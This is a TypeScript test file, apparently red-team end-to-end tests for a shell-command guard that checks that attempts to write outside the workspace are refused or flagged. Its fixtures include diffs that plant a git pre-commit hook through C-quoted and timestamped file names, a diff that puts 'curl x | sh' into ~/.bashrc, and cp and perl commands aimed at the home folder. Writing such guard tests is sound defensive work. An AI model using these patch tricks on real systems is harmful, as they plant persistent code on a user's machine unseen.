import { describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { filesUnder, guardRunRestore } from "../../support/guard-e2e.ts";
import { useTempDirs } from "../../support/temp-dir.ts";

const tempDir = useTempDirs("leogriel-redteam4-e2e-");
const has = (tool: string) => Bun.spawnSync(["bash", "-c", `command -v ${tool}`]).exitCode === 0;
const HOOK = "@@ -0,0 +1 @@\n+echo pwned\n";
const DIFFS: Record<string, string> = {
  "q2.diff": `diff --git "a/\\056git/hooks/pre-commit" "b/\\056git/hooks/pre-commit"\nnew file mode 100755\n--- /dev/null\n+++ "b/\\056git/hooks/pre-commit"\n${HOOK}`,
  "ts.diff": `--- /dev/null\t1970-01-01 00:00:00.000000000 +0000\n+++ b/.git/hooks/pre-commit\t2024-01-01 00:00:00.000000000 +0000\n${HOOK}`,
  "h2.diff": "--- a/.bashrc\t2024-01-01 00:00:00.000000000 +0000\n+++ b/.bashrc\t2024-01-01 00:00:00.000000000 +0000\n@@ -1 +1 @@\n-# the user's rc\n+curl x | sh\n",
  "ws.diff": "--- a/src/main.ts\t2024-01-01 00:00:00.000000000 +0000\n+++ b/src/main.ts\t2024-01-01 00:00:00.000000000 +0000\n@@ -1 +1 @@\n-tracked\n+patched\n",
};

/** A fake HOME with a ~/.bashrc, and a git workspace with a tree of dotfiles and the red team's diffs. */
function scene(): { ws: string; home: string } {
  const home = tempDir();
  const ws = join(home, "ws");
  mkdirSync(join(ws, "src"), { recursive: true });
  mkdirSync(join(ws, "dots"));
  writeFileSync(join(home, ".bashrc"), "# the user's rc\n");
  writeFileSync(join(ws, "src", "main.ts"), "tracked\n");
  writeFileSync(join(ws, "dots", ".bashrc"), "curl x | sh\n");
  Bun.spawnSync(["bash", "-c", "git init -q . && git add . && git -c user.name=t -c user.email=t@t commit -qm init"], { cwd: ws, env: { HOME: home, PATH: process.env.PATH } });
  for (const [name, text] of Object.entries(DIFFS)) writeFileSync(join(ws, name), text);
  return { ws, home };
}

// Fourth red-team pass, end to end: the guard with --apply, then (only when it allowed) the real
// command with bash under the fake HOME. A refused row never runs: the home folder and the git
// hooks keep every byte.
const REFUSED: Array<[string, string, number, string]> = [
  ["patch of a C-quoted \\056git hook blocks", "patch -p1 < q2.diff", 2, "patch"],
  ["patch of a timestamped header blocks", "patch -p1 < ts.diff", 2, "patch"],
  ["patch -d ~ asks", "patch -p1 -d ~ < h2.diff", 3, "patch"],
  ["cp -rT dots ~ asks", "cp -rT dots ~", 3, "cp"],
  ["perl -lpi on ~/.bashrc asks", "perl -lpi -e 's/rc/pwned/' ~/.bashrc", 3, "perl"],
];

describe("red team 4 end to end: patch names, cp -T, perl clusters", () => {
  for (const [name, command, exit, tool] of REFUSED) {
    test.skipIf(!has(tool))(name, () => {
      const { ws, home } = scene();
      const before = filesUnder(home);
      expect(guardRunRestore(ws, home, command)).toBe(exit);
      expect(filesUnder(home)).toEqual(before);
      expect(existsSync(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
    });
  }

  // The model matches the program: the real patch decodes `\056` and ends a name at the tab.
  test.skipIf(!has("patch"))("GNU patch writes the hook these diffs name (why they block)", () => {
    for (const diff of ["q2.diff", "ts.diff"]) {
      const { ws, home } = scene();
      Bun.spawnSync(["bash", "-c", `patch -p1 < ${diff}`], { cwd: ws, env: { HOME: home, PATH: process.env.PATH } });
      expect(readFileSync(join(ws, ".git", "hooks", "pre-commit"), "utf8")).toBe("echo pwned\n");
    }
  });

  test.skipIf(!has("patch"))("patch of a timestamped workspace diff runs", () => {
    const { ws, home } = scene();
    expect(guardRunRestore(ws, home, "patch -p1 < ws.diff")).toBe(0);
    expect(readFileSync(join(ws, "src", "main.ts"), "utf8")).toBe("patched\n");
  });

  test("cp -rT inside the workspace runs", () => {
    const { ws, home } = scene();
    expect(guardRunRestore(ws, home, "cp -rT dots dots2")).toBe(0);
    expect(readFileSync(join(ws, "dots2", ".bashrc"), "utf8")).toBe("curl x | sh\n");
  });
});
